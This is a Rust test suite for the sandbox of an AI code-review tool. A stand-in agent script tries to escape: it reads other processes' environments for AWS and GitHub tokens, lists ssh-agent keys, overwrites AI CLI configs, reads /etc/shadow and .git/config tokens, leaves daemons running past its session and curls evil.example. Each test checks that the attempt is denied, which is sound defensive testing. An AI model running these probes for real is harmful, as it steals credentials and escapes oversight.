//! An agent turned against its user reaches nothing of theirs. Each attack a change under review
//! could steer an agent into is tried here by a stand-in agent (a shell script configured as a
//! custom agent), through the built binary, as root (these tests run as root here and in CI,
//! as CI containers do): the environment of deep-review and of other processes, the user's
//! ssh-agent, the CLIs' configuration in the user's home, the terminal, other processes'
//! signals, `/run` and `/var/lib`, processes that outlive the run, and the network.
//!
//! Each runs under the default sandbox (bubblewrap with Landlock inside); those that Landlock
//! alone also covers run again with `DEEP_REVIEW_SANDBOX=landlock`.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use serde_json::Value;
use tempfile::TempDir;

use crate::support::procs;
use crate::support::repo::Repo;
use crate::support::standin::{Agents, Ran, json_report, repo, review, run};

pub(crate) const NEEDS: &str = "needs bubblewrap, openssh-client and curl: scripts/install-sandbox-tools.sh (apt-get), then --run-ignored all";

/// Fails the test, saying what to install, where bwrap cannot make its namespaces.
pub(crate) fn needs_bwrap() {
    if let Err(why) = &deep_review::dispatch::sandbox::support().bwrap {
        panic!("this test {NEEDS}: {why}");
    }
}

pub(crate) fn needs_program(name: &str) {
    assert!(
        Path::new("/usr/bin").join(name).is_file(),
        "this test {NEEDS}: /usr/bin/{name} is missing"
    );
}

/// A repository, a stand-in agent `probe`, the user's home for the run and a store.
pub(crate) struct Attack {
    pub(crate) repo: Repo,
    pub(crate) agents: Agents,
    pub(crate) home: TempDir,
    pub(crate) store: TempDir,
}

impl Attack {
    pub(crate) fn new() -> Attack {
        Attack {
            repo: repo(),
            agents: Agents::new(),
            home: tempfile::tempdir().unwrap(),
            store: tempfile::tempdir().unwrap(),
        }
    }

    pub(crate) fn result_path(&self) -> PathBuf {
        self.agents.path("result.txt")
    }

    /// The probe runs `attack` (a shell fragment; `try NAME COMMAND` records `ALLOWED NAME` or
    /// `DENIED NAME` in `$R`), then writes a review.
    pub(crate) fn probe(&self, attack: &str) {
        let body = format!(
            "R='{result}'\n\
             try() {{ if sh -c \"$2\" >/dev/null 2>&1; then echo \"ALLOWED $1\" >> \"$R\"; else echo \"DENIED $1\" >> \"$R\"; fi; }}\n\
             {attack}\n\
             cat <<'REVIEW'\n{review}REVIEW\n",
            result = self.result_path().display(),
            review = review("Login accepts any password", None),
        );
        self.agents.add("probe", &body);
    }

    /// `deep-review run --agents probe` as the user whose home is `self.home`, in sandbox `mode`
    /// (`auto` or `landlock`).
    pub(crate) fn cmd(&self, mode: &str) -> assert_cmd::Command {
        let mut cmd = self.agents.cmd(self.repo.path());
        cmd.env("HOME", self.home.path())
            .env("DEEP_REVIEW_SANDBOX", mode)
            .args(["run", "--agents", "probe", "--quiet", "--store"])
            .arg(self.store.path());
        cmd
    }

    pub(crate) fn run(&self, mode: &str) -> Ran {
        let ran = run(&mut self.cmd(mode));
        assert!(
            ran.code == Some(0),
            "the run failed ({:?}): {}\n{}",
            ran.code,
            ran.stderr,
            self.results()
        );
        ran
    }

    pub(crate) fn results(&self) -> String {
        std::fs::read_to_string(self.result_path()).unwrap_or_default()
    }

    pub(crate) fn clear_results(&self) {
        let _ = std::fs::remove_file(self.result_path());
    }
}

/// Asserts that `results` says `DENIED name` and never `ALLOWED name`.
pub(crate) fn denied(results: &str, name: &str, mode: &str) {
    assert!(
        results.contains(&format!("DENIED {name}\n"))
            && !results.contains(&format!("ALLOWED {name}\n")),
        "{mode}: `{name}` was not denied:\n{results}"
    );
}

/// A process of root's (the user's other work) that the agent must not see or signal.
struct Victim {
    child: std::process::Child,
}

impl Victim {
    fn start(marker: &str, secret: &str) -> Victim {
        use std::os::unix::process::CommandExt;
        let child = Command::new("sh")
            .args(["-c", "sleep 300; true", marker])
            .env("VICTIM_SECRET", secret)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .process_group(0)
            .spawn()
            .unwrap();
        assert!(procs::wait_present(marker, Duration::from_secs(5)));
        Victim { child }
    }

    fn pid(&self) -> u32 {
        self.child.id()
    }

    fn alive(&mut self) -> bool {
        self.child.try_wait().unwrap().is_none()
    }
}

impl Drop for Victim {
    fn drop(&mut self) {
        // The shell and its sleep: the whole group.
        // SAFETY: kill(2) on the victim's own process group.
        unsafe {
            libc::kill(-(self.child.id() as i32), libc::SIGKILL);
        }
        let _ = self.child.wait();
    }
}

#[test]
#[ignore = "needs bubblewrap, openssh-client and curl: scripts/install-sandbox-tools.sh (apt-get), then --run-ignored all"]
fn the_environment_of_deep_review_and_of_other_processes_is_not_readable() {
    needs_bwrap();
    let marker = procs::marker("victim");
    let victim = Victim::start(&marker, "victim-secret-19");
    let attack = Attack::new();
    attack.probe(&format!(
        "cat /proc/$PPID/environ >> \"$R\" 2>&1\n\
         cat /proc/{pid}/environ >> \"$R\" 2>&1\n\
         for p in /proc/[0-9]*; do cat $p/environ; echo; done >> \"$R\" 2>/dev/null\n\
         cat /proc/self/environ >> \"$R\"",
        pid = victim.pid()
    ));
    for mode in ["auto", "landlock"] {
        attack.clear_results();
        let mut cmd = attack.cmd(mode);
        cmd.env("AWS_SECRET_ACCESS_KEY", "aws-secret-value-19")
            .env("GITHUB_TOKEN", "ghs_app_token_value_19");
        let ran = run(&mut cmd);
        assert_eq!(ran.code, Some(0), "{mode}: {}", ran.stderr);
        let results = attack.results();
        // The probe ran and could read what is its own.
        assert!(
            results.contains("PATH="),
            "{mode}: the probe read nothing:\n{results}"
        );
        for secret in [
            "aws-secret-value-19",
            "ghs_app_token_value_19",
            "victim-secret-19",
        ] {
            assert!(
                !results.contains(secret),
                "{mode}: the agent read `{secret}`:\n{results}"
            );
        }
    }
}

#[test]
#[ignore = "needs bubblewrap, openssh-client and curl: scripts/install-sandbox-tools.sh (apt-get), then --run-ignored all"]
fn the_users_ssh_agent_is_not_reachable() {
    needs_bwrap();
    needs_program("ssh-agent");
    let keys = tempfile::tempdir().unwrap();
    let key = keys.path().join("id_test");
    let socket = keys.path().join("agent.sock");
    let status = Command::new("ssh-keygen")
        .args([
            "-q",
            "-t",
            "ed25519",
            "-N",
            "",
            "-C",
            "deep-review-test-key",
            "-f",
        ])
        .arg(&key)
        .status()
        .unwrap();
    assert!(status.success());
    let mut ssh_agent = Command::new("ssh-agent")
        .arg("-D")
        .arg("-a")
        .arg(&socket)
        .stdout(std::process::Stdio::null())
        .spawn()
        .unwrap();
    for _ in 0..100 {
        if socket.exists() {
            break;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let added = Command::new("ssh-add")
        .arg(&key)
        .env("SSH_AUTH_SOCK", &socket)
        .output()
        .unwrap();
    assert!(added.status.success(), "{added:?}");
    // The real agent answers outside the sandbox: the probe below is a fair test.
    let listed = Command::new("ssh-add")
        .arg("-l")
        .env("SSH_AUTH_SOCK", &socket)
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&listed.stdout).contains("deep-review-test-key"));

    let attack = Attack::new();
    attack.probe(&format!(
        "try by-path \"SSH_AUTH_SOCK='{sock}' ssh-add -l\"\n\
         SSH_AUTH_SOCK='{sock}' ssh-add -l >> \"$R\" 2>&1\n\
         ssh-add -l >> \"$R\" 2>&1\n\
         for s in $(awk 'NR>1 {{print $8}}' /proc/net/unix | grep '^/'); do SSH_AUTH_SOCK=$s ssh-add -l; done >> \"$R\" 2>&1",
        sock = socket.display()
    ));
    let mut cmd = attack.cmd("auto");
    cmd.env("SSH_AUTH_SOCK", &socket);
    let ran = run(&mut cmd);
    assert_eq!(ran.code, Some(0), "{}", ran.stderr);
    let results = attack.results();
    denied(&results, "by-path", "auto");
    assert!(
        !results.contains("deep-review-test-key") && !results.contains("ED25519"),
        "the agent listed the user's keys:\n{results}"
    );

    let _ = ssh_agent.kill();
    let _ = ssh_agent.wait();

    // A user who wants the agent to have a socket names it: then, and only then, it is there.
    // As root the agent is uid 65533 outside its sandbox, so the socket must let that uid in
    // (ssh-agent itself refuses every uid but its own and root's: a server's own checks hold).
    let served = serve_unix_http(keys.path().join("service.sock"), "socket-ok-32");
    let probe = format!(
        "try by-path \"curl -sf --unix-socket '{sock}' http://x/\"\n\
         curl -s --unix-socket '{sock}' http://x/ >> \"$R\" 2>&1",
        sock = served.display()
    );
    let attack = Attack::new();
    attack.probe(&probe);
    attack
        .agents
        .append_config(&format!("sandbox_sockets = [\"{}\"]\n", served.display()));
    let ran = run(&mut attack.cmd("auto"));
    assert_eq!(ran.code, Some(0), "{}", ran.stderr);
    let results = attack.results();
    assert!(
        results.contains("ALLOWED by-path\n") && results.contains("socket-ok-32"),
        "sandbox_sockets did not let the named socket through:\n{results}"
    );
    // One only root may connect to fails the agent with what to do, not in silence.
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&served, std::fs::Permissions::from_mode(0o600)).unwrap();
    let ran = run(&mut attack.cmd("auto"));
    assert_eq!(ran.code, Some(3), "{}", ran.stderr);
    assert!(
        ran.stderr.contains("cannot connect to") && ran.stderr.contains("65533"),
        "{}",
        ran.stderr
    );
}

/// A UNIX socket at `path` (every uid may connect) answering each HTTP request with `body`.
fn serve_unix_http(path: PathBuf, body: &'static str) -> PathBuf {
    use std::io::{Read, Write};
    use std::os::unix::fs::PermissionsExt;
    let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o666)).unwrap();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut buf = [0u8; 4096];
            let _ = stream.read(&mut buf);
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    path
}

#[test]
#[ignore = "needs bubblewrap, openssh-client and curl: scripts/install-sandbox-tools.sh (apt-get), then --run-ignored all"]
fn what_an_agent_writes_to_cli_configuration_never_reaches_the_user() {
    needs_bwrap();
    let attack = Attack::new();
    let home = attack.home.path();
    let files = [
        (".codex/config.toml", "model = \"o3\"\n"),
        (".claude/settings.json", "{\"model\":\"opus\"}\n"),
        (".gemini/settings.json", "{\"security\":{}}\n"),
        (".claude.json", "{\"hasCompletedOnboarding\":true}\n"),
    ];
    for (path, text) in files {
        std::fs::create_dir_all(home.join(path).parent().unwrap()).unwrap();
        std::fs::write(home.join(path), text).unwrap();
    }
    attack.probe(&format!(
        "try real-codex \"printf 'env_key = \\\"AWS_SECRET_ACCESS_KEY\\\"\\n' >> '{h}/.codex/config.toml'\"\n\
         try real-claude \"printf '{{\\\"hooks\\\":{{}}}}' > '{h}/.claude/settings.json'\"\n\
         try real-gemini \"printf x > '{h}/.gemini/settings.json'\"\n\
         try real-claude-json \"printf x > '{h}/.claude.json'\"\n\
         try own-home \"mkdir -p \\\"$HOME/.codex\\\" && printf 'env_key = 1\\n' >> \\\"$HOME/.codex/config.toml\\\"\"\n\
         echo \"HOME=$HOME\" >> \"$R\"",
        h = home.display()
    ));
    for mode in ["auto", "landlock"] {
        attack.clear_results();
        attack.run(mode);
        let results = attack.results();
        for name in [
            "real-codex",
            "real-claude",
            "real-gemini",
            "real-claude-json",
        ] {
            denied(&results, name, mode);
        }
        // The agent's own state still works: it writes its throwaway home.
        assert!(results.contains("ALLOWED own-home\n"), "{mode}:\n{results}");
        assert!(
            !results.contains(&format!("HOME={}\n", home.display())),
            "{mode}: the agent's HOME is the user's:\n{results}"
        );
        for (path, text) in files {
            assert_eq!(
                std::fs::read_to_string(home.join(path)).unwrap(),
                text,
                "{mode}: {path} changed"
            );
        }
    }
}

#[test]
#[ignore = "needs bubblewrap, openssh-client and curl: scripts/install-sandbox-tools.sh (apt-get), then --run-ignored all"]
fn an_agent_cannot_write_to_the_users_terminal() {
    needs_bwrap();
    needs_program("script");
    let attack = Attack::new();
    attack.probe(
        "try tty \"printf '\\033]52;c;cHduZWQ=\\007checkout not touched PWNED-TTY' > /dev/tty\"",
    );
    for mode in ["auto", "landlock"] {
        attack.clear_results();
        // deep-review with a terminal of its own: `script` gives it a pseudo-terminal as its
        // controlling terminal, as a user's shell does.
        let line = attack
            .cmd(mode)
            .get_program()
            .to_string_lossy()
            .into_owned();
        let args: Vec<String> = attack
            .cmd(mode)
            .get_args()
            .map(|a| a.to_string_lossy().into_owned())
            .collect();
        let command_line = std::iter::once(line)
            .chain(args)
            .map(|w| shlex::try_quote(&w).unwrap().into_owned())
            .collect::<Vec<_>>()
            .join(" ");
        let base = attack.cmd(mode);
        let mut script = Command::new("script");
        script
            .args(["-q", "-e", "-c", &command_line, "/dev/null"])
            .current_dir(attack.repo.path())
            .stdin(std::process::Stdio::null());
        for (key, value) in base.get_envs() {
            match value {
                Some(v) => script.env(key, v),
                None => script.env_remove(key),
            };
        }
        let out = script.output().unwrap();
        let screen = String::from_utf8_lossy(&out.stdout);
        let results = attack.results();
        assert!(out.status.success(), "{mode}: {screen}\n{results}");
        denied(&results, "tty", mode);
        assert!(
            !screen.contains("PWNED-TTY"),
            "{mode}: the agent wrote on the terminal: {screen}"
        );
    }
}

#[test]
#[ignore = "needs bubblewrap, openssh-client and curl: scripts/install-sandbox-tools.sh (apt-get), then --run-ignored all"]
fn an_agent_cannot_signal_the_users_other_processes() {
    needs_bwrap();
    let marker = procs::marker("signal-victim");
    let mut victim = Victim::start(&marker, "x");
    let attack = Attack::new();
    attack.probe(&format!(
        "try kill \"kill -TERM {pid}\"\ntry kill-group \"kill -TERM -- -{pid}\"",
        pid = victim.pid()
    ));
    for mode in ["auto", "landlock"] {
        attack.clear_results();
        attack.run(mode);
        let results = attack.results();
        denied(&results, "kill", mode);
        std::thread::sleep(Duration::from_millis(200));
        assert!(victim.alive(), "{mode}: the agent killed another process");
    }
}

/// As root the agent's uid maps to root's outside, so every root-only file bound into the
/// sandbox would be its own to read: `/etc`'s private files (keys, backups of the password
/// files, a cluster's admin config) are covered, whatever their names.
#[test]
#[ignore = "needs bubblewrap, openssh-client and curl: scripts/install-sandbox-tools.sh (apt-get), then --run-ignored all; runs as root"]
fn files_only_root_may_read_are_not_readable_as_root() {
    use std::os::unix::fs::PermissionsExt;
    needs_bwrap();
    // SAFETY: geteuid has no preconditions.
    assert_eq!(
        unsafe { libc::geteuid() },
        0,
        "this test runs as root, as CI containers do"
    );
    let marker = procs::marker("private");
    let file = PathBuf::from(format!("/etc/{marker}.key"));
    let dir = PathBuf::from(format!("/etc/{marker}.d"));
    struct Cleanup(PathBuf, PathBuf);
    impl Drop for Cleanup {
        fn drop(&mut self) {
            let _ = std::fs::remove_file(&self.0);
            let _ = std::fs::remove_dir_all(&self.1);
        }
    }
    let _cleanup = Cleanup(file.clone(), dir.clone());
    std::fs::write(&file, "private key\n").unwrap();
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
    std::fs::create_dir(&dir).unwrap();
    std::fs::write(dir.join("admin.conf"), "token\n").unwrap();
    std::fs::set_permissions(
        dir.join("admin.conf"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o700)).unwrap();
    let attack = Attack::new();
    attack.probe(&format!(
        "try key \"grep -q private {file}\"\n\
         try dir \"grep -q token {dir}/admin.conf\"\n\
         try shadow \"cat /etc/shadow\"\n\
         try etc \"cat /etc/hostname\"",
        file = file.display(),
        dir = dir.display()
    ));
    attack.run("auto");
    let results = attack.results();
    denied(&results, "key", "auto");
    denied(&results, "dir", "auto");
    denied(&results, "shadow", "auto");
    assert!(results.contains("ALLOWED etc\n"), "{results}");
}

#[test]
#[ignore = "needs bubblewrap, openssh-client and curl: scripts/install-sandbox-tools.sh (apt-get), then --run-ignored all"]
fn run_and_var_lib_are_not_readable() {
    needs_bwrap();
    let attack = Attack::new();
    attack.probe("try run \"ls /run\"\ntry var-lib \"ls /var/lib\"\ntry etc \"cat /etc/hostname\"");
    for mode in ["auto", "landlock"] {
        attack.clear_results();
        attack.run(mode);
        let results = attack.results();
        denied(&results, "run", mode);
        denied(&results, "var-lib", mode);
        // The system itself is readable: the probe's denials are the sandbox's, not a broken
        // probe's.
        assert!(results.contains("ALLOWED etc\n"), "{mode}:\n{results}");
    }
}

#[test]
#[ignore = "needs bubblewrap, openssh-client and curl: scripts/install-sandbox-tools.sh (apt-get), then --run-ignored all"]
fn no_process_of_an_agent_outlives_its_run_or_a_killed_deep_review() {
    needs_bwrap();
    // A daemon left behind by an agent that finished.
    let attack = Attack::new();
    let daemon = procs::marker("daemon");
    attack.probe(&format!(
        "setsid sh -c 'sleep 300; true' {daemon} >/dev/null 2>&1 </dev/null &\n\
         sleep 0.3"
    ));
    attack.run("auto");
    assert!(
        procs::wait_gone(&daemon, Duration::from_secs(2)),
        "the agent's daemon outlived the run: {:?}",
        procs::with_marker(&daemon)
    );

    // deep-review killed outright (SIGKILL: no handler runs) while its agent works.
    let attack = Attack::new();
    let daemon = procs::marker("daemon-kill9");
    let worker = procs::marker("worker-kill9");
    attack.probe(&format!(
        "setsid sh -c 'sleep 300; true' {daemon} >/dev/null 2>&1 </dev/null &\n\
         sh -c 'sleep 300; true' {worker}"
    ));
    let mut child = Command::new(assert_cmd::cargo::cargo_bin("deep-review"));
    let base = attack.cmd("auto");
    child
        .args(base.get_args())
        .current_dir(attack.repo.path())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null());
    for (key, value) in base.get_envs() {
        match value {
            Some(v) => child.env(key, v),
            None => child.env_remove(key),
        };
    }
    let mut child = child.spawn().unwrap();
    assert!(
        procs::wait_present(&worker, Duration::from_secs(30)),
        "the agent never started"
    );
    assert!(procs::wait_present(&daemon, Duration::from_secs(5)));
    child.kill().unwrap();
    child.wait().unwrap();
    for marker in [&daemon, &worker] {
        assert!(
            procs::wait_gone(marker, Duration::from_secs(2)),
            "a process of the agent outlived `kill -9` of deep-review: {:?}",
            procs::with_marker(marker)
        );
    }
}

/// An agent stopped at its timeout gets TERM first, under bwrap as without it, so it can flush
/// and exit; bwrap itself must not take the TERM (its death kills the whole sandbox at once).
#[test]
#[ignore = "needs bubblewrap, openssh-client and curl: scripts/install-sandbox-tools.sh (apt-get), then --run-ignored all"]
fn an_agent_stopped_at_its_timeout_is_asked_to_stop_first() {
    needs_bwrap();
    for mode in ["auto", "landlock"] {
        let attack = Attack::new();
        let worker = procs::marker(&format!("term-{mode}"));
        attack.probe(&format!(
            "trap 'echo \"TERM received\" >> \"$R\"; exit 0' TERM\n\
             sh -c 'sleep 300; true' {worker} &\n\
             wait"
        ));
        attack.agents.append_config("timeout = \"3s\"\n");
        let ran = run(&mut attack.cmd(mode));
        assert_eq!(ran.code, Some(3), "{mode}: no review: {}", ran.stderr);
        assert!(
            attack.results().contains("TERM received"),
            "{mode}: the agent was not sent TERM before it was killed:\n{}",
            ran.stderr
        );
        assert!(
            procs::wait_gone(&worker, Duration::from_secs(2)),
            "{mode}: a process of the agent outlived its run: {:?}",
            procs::with_marker(&worker)
        );
    }
}

/// A tiny HTTP server on 127.0.0.1 that answers `body` and counts its connections.
struct Server {
    port: u16,
    hits: std::sync::Arc<std::sync::atomic::AtomicUsize>,
}

impl Server {
    fn start(body: &'static str) -> Server {
        use std::io::{Read, Write};
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let counter = std::sync::Arc::clone(&hits);
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                let mut stream = stream;
                let mut buf = [0u8; 4096];
                let _ = stream.read(&mut buf);
                let _ = write!(
                    stream,
                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    body.len()
                );
            }
        });
        Server { port, hits }
    }

    fn hits(&self) -> usize {
        self.hits.load(std::sync::atomic::Ordering::SeqCst)
    }
}

#[test]
#[ignore = "needs bubblewrap, openssh-client and curl: scripts/install-sandbox-tools.sh (apt-get), then --run-ignored all"]
fn egress_reaches_the_provider_only_and_refusals_are_logged_and_reported() {
    needs_bwrap();
    needs_program("curl");
    let provider = Server::start("provider-ok");
    let outsider = Server::start("outsider-reached");
    let attack = Attack::new();
    attack.probe(&format!(
        "curl -s -m 10 http://127.0.0.1:{p}/v1/messages >> \"$R\" 2>&1; echo >> \"$R\"\n\
         try evil \"curl -sf -m 10 -x \\\"$HTTPS_PROXY\\\" https://evil.example/\"\n\
         try outsider-proxied \"curl -sf -m 10 --noproxy '' -x \\\"$HTTP_PROXY\\\" http://127.0.0.1:{q}/\"\n\
         try outsider-direct \"curl -sf -m 10 http://127.0.0.1:{q}/\"\n\
         try outside-ip \"curl -sf -m 5 --noproxy '*' http://1.1.1.1/\"",
        p = provider.port,
        q = outsider.port
    ));
    // The provider of this custom agent is the server on 127.0.0.1:P (a local model server).
    attack.agents.append_config(&format!(
        "network_allow = [\"http://127.0.0.1:{}\"]\n",
        provider.port
    ));
    let ran = attack.run("auto");
    let results = attack.results();
    assert!(
        results.contains("provider-ok"),
        "the provider was not reached:\n{results}"
    );
    assert!(provider.hits() >= 1);
    for name in ["evil", "outsider-proxied", "outsider-direct", "outside-ip"] {
        denied(&results, name, "auto");
    }
    assert_eq!(
        outsider.hits(),
        0,
        "a host outside the allowlist was reached"
    );

    // Refused and logged in the agent's folder of the bundle, counted in the report.
    let report = json_report(&ran);
    let probe = report["agents"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["name"] == "probe")
        .unwrap()
        .clone();
    assert_eq!(probe["sandbox"], "bwrap+landlock", "{probe:#}");
    let network = &probe["network"];
    assert_eq!(network["mode"], "allowlist", "{probe:#}");
    assert_eq!(network["refused"], 2, "{probe:#}");
    let refused: Vec<&str> = network["refused_hosts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h.as_str().unwrap())
        .collect();
    assert!(refused.contains(&"evil.example:443"), "{refused:?}");
    assert!(
        refused.contains(&format!("127.0.0.1:{}", outsider.port).as_str()),
        "{refused:?}"
    );
    let notes: Vec<&str> = report["warnings"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(Value::as_str)
        .collect();
    assert!(
        notes
            .iter()
            .any(|n| n.contains("refused 2 connections") && n.contains("evil.example:443")),
        "{notes:?}"
    );
    let log = find_file(attack.store.path(), "network.jsonl").expect("network.jsonl in the bundle");
    let lines: Vec<Value> = std::fs::read_to_string(&log)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(
        lines
            .iter()
            .any(|l| l["host"] == "evil.example" && l["allowed"] == false),
        "{lines:?}"
    );
    assert!(
        lines
            .iter()
            .any(|l| l["port"] == provider.port && l["allowed"] == true),
        "{lines:?}"
    );
}

/// The first file named `name` under `dir`, searched depth first.
pub(crate) fn find_file(dir: &Path, name: &str) -> Option<PathBuf> {
    for entry in std::fs::read_dir(dir).ok()?.flatten() {
        let path = entry.path();
        if path.is_dir() {
            if let Some(found) = find_file(&path, name) {
                return Some(found);
            }
        } else if path.file_name().is_some_and(|n| n == name) {
            return Some(path);
        }
    }
    None
}

/// The repository's git directory holds more than objects: its `config` (where CI's checkout
/// writes the job's token as `http.extraheader`) and deep-review's store. An agent reads the
/// objects (its git works in its checkout) and nothing else of it.
#[test]
#[ignore = "needs bubblewrap, openssh-client and curl: scripts/install-sandbox-tools.sh (apt-get), then --run-ignored all"]
fn the_repositorys_git_config_and_the_store_are_not_readable() {
    needs_bwrap();
    let attack = Attack::new();
    attack.repo.git(&[
        "config",
        "http.https://github.com/.extraheader",
        "AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hzX2NpLXRva2Vu",
    ]);
    let git_dir = attack.repo.path().join(".git");
    std::fs::create_dir_all(git_dir.join("deep-review")).unwrap();
    std::fs::write(
        git_dir.join("deep-review/earlier.json"),
        "store-record-secret-19",
    )
    .unwrap();
    attack.probe(&format!(
        "cat '{g}/config' >> \"$R\" 2>&1\n\
         cat '{g}/deep-review/earlier.json' >> \"$R\" 2>&1\n\
         git config --get-regexp extraheader >> \"$R\" 2>&1\n\
         cat .git/config >> \"$R\" 2>&1\n\
         try git-log \"git log --oneline -1\"\n\
         try git-show \"git show HEAD:src/auth.rs\"",
        g = git_dir.display()
    ));
    for mode in ["auto", "landlock"] {
        attack.clear_results();
        attack.run(mode);
        let results = attack.results();
        // The agent's git still reads the history.
        assert!(results.contains("ALLOWED git-log\n"), "{mode}:\n{results}");
        assert!(results.contains("ALLOWED git-show\n"), "{mode}:\n{results}");
        for secret in ["eC1hY2Nlc3MtdG9rZW46", "store-record-secret-19"] {
            assert!(
                !results.contains(secret),
                "{mode}: the agent read `{secret}`:\n{results}"
            );
        }
    }
}
